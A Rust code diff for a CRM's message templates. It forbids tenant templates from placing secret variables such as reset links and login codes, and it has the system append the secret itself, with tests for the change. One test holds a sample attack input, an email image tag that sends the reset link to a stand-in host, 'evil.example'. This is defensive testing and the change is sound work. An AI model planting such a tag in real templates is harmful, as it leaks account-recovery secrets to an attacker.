@@ -229,9 +229,21 @@ pub fn render(t: &Template, payload: &Map<String, Value>) -> Result<Rendered, Ap
         out
     };
     let subject = fill(&t.subject);
-    let body = fill(&t.body);
+    let mut body = fill(&t.body);
     if !missing.is_empty() {
         return Err(AppError::invalid_fields(missing));
+    }
+    // A tenant's own text of a family that carries a secret never holds the
+    // secret (`check_secret_placement`): the system adds it, as plain text on
+    // its own line, where the built-in template of that channel has it.
+    if crm_events::messages::carries_secret(&t.family) {
+        let built = built_in(&t.channel, &t.family, &t.locale).or_else(|| built_in(&t.channel, &t.family, "en"));
+        for v in crm_events::messages::SECRET_VARIABLES {
+            let wanted = built.as_ref().is_some_and(|b| placeholders(&b.body).iter().any(|p| p == v));
+            if let (true, Some(value)) = (wanted && !placeholders(&t.body).iter().any(|p| p == v), payload.get(*v).and_then(value_text)) {
+                body = format!("{}\n\n{value}\n", body.trim_end());
+            }
+        }
     }
     Ok(Rendered { subject, body, locale: t.locale.clone(), auto_generated: false })
 }
@@ -248,27 +260,24 @@ pub fn inbox_fallback(family: &str, body: &str, locale: &str) -> Rendered {
     Rendered { subject: family.to_string(), body: cut, locale: locale.to_string(), auto_generated: true }
 }
 
-/// Where a tenant's template may put the secret of a family that carries
-/// one ([`crm_events::messages::carries_secret`]): only in the body of an
-/// email, SMS or WhatsApp — the texts that go to the recipient alone. Never
-/// in a subject (shown in lists) nor in an inbox entry (which an admin may
-/// read): `422 TEMPLATE_SECRET_EXPOSED`.
-pub fn check_secret_placement(channel: &Channel, family: &str, subject: &str, body: &str) -> Result<(), AppError> {
+/// A tenant's template of a family that carries a secret
+/// ([`crm_events::messages::carries_secret`]) may not place the secret
+/// variables (`link`, `code`, `token`) anywhere — not in a subject (shown in
+/// lists), an inbox entry (an admin may read it), nor a body, where a URL
+/// or an image could carry the link to the template's author when the mail
+/// is opened. The system adds the secret itself ([`render`]):
+/// `422 TEMPLATE_SECRET_EXPOSED`.
+pub fn check_secret_placement(_channel: &Channel, family: &str, subject: &str, body: &str) -> Result<(), AppError> {
     if !crm_events::messages::carries_secret(family) {
         return Ok(());
     }
     let secret = |text: &str| placeholders(text).into_iter().find(|v| crm_events::messages::SECRET_VARIABLES.contains(&v.as_str()));
-    let exposed = match (channel, secret(subject), secret(body)) {
-        (_, Some(v), _) => Some(("subject", v)),
-        (Channel::Inbox, None, Some(v)) => Some(("an inbox body", v)),
-        _ => None,
-    };
-    match exposed {
+    match secret(subject).or_else(|| secret(body)) {
         None => Ok(()),
-        Some((place, v)) => Err(AppError::Rule {
+        Some(v) => Err(AppError::Rule {
             code: "TEMPLATE_SECRET_EXPOSED",
             message: format!(
-                "`{{{{{v}}}}}` of `{family}` is a secret: it may only appear in the body of an email, SMS or WhatsApp template, not in {place}"
+                "`{{{{{v}}}}}` of `{family}` is a secret: a tenant's template never places it; the system adds it below your text"
             ),
         }),
     }
@@ -344,14 +353,35 @@ mod tests {
     }
 
     #[test]
-    fn a_secret_stays_in_the_body_of_a_direct_channel() {
-        assert!(check_secret_placement(&Channel::Email, "auth.reset_password", "Reset", "Go to {{link}}").is_ok());
-        let e = check_secret_placement(&Channel::Email, "auth.reset_password", "Your link {{link}}", "x").unwrap_err();
-        assert_eq!(e.code(), "TEMPLATE_SECRET_EXPOSED");
-        assert!(check_secret_placement(&Channel::Inbox, "otp.login", "Code", "{{code}}").is_err());
-        assert!(check_secret_placement(&Channel::Sms, "contact.verify_channel", "", "{{code}}").is_ok());
+    fn a_tenant_never_places_a_secret_and_the_system_adds_it_where_the_built_in_has_it() {
+        for (channel, subject, body) in [
+            (Channel::Email, "Reset", "<img src=\"https://evil.example/?l={{link}}\">"),
+            (Channel::Email, "Your link {{link}}", "x"),
+            (Channel::Inbox, "Code", "{{code}}"),
+        ] {
+            let e = check_secret_placement(&channel, "auth.reset_password", subject, body).unwrap_err();
+            assert_eq!(e.code(), "TEMPLATE_SECRET_EXPOSED");
+        }
+        assert!(check_secret_placement(&Channel::Sms, "contact.verify_channel", "", "{{code}}").is_err());
         assert!(check_secret_placement(&Channel::Inbox, "deal.won", "{{code}}", "{{link}}").is_ok(), "not a secret family");
         assert!(!inbox_fallback("otp.login", "your code is 123456", "en").body.contains("123456"));
+        let mine = Template {
+            channel: Channel::Email,
+            family: "auth.reset_password".into(),
+            locale: "en".into(),
+            subject: "Reset".into(),
+            body: "Hello {{full_name}}, choose a new password.".into(),
+        };
+        let r = render(&mine, &payload(json!({"full_name": "Sara", "link": "https://app/reset?token=rst.x"}))).unwrap();
+        assert!(r.body.ends_with("\n\nhttps://app/reset?token=rst.x\n"), "{}", r.body);
+        let mirror = Template { channel: Channel::Email, family: "otp.login".into(), body: "A code was sent.".into(), ..mine.clone() };
+        assert!(
+            !render(&mirror, &payload(json!({"code": "123456"}))).unwrap().body.contains("123456"),
+            "an email mirror never gets the code"
+        );
+        let built = built_in(&Channel::Sms, "otp.login", "en").unwrap();
+        let once = render(&built, &payload(json!({"code": "123456", "app_name": "M3CRM", "expires_min": 10}))).unwrap();
+        assert_eq!(once.body.matches("123456").count(), 1, "built-ins are not doubled");
     }
 
     #[test]
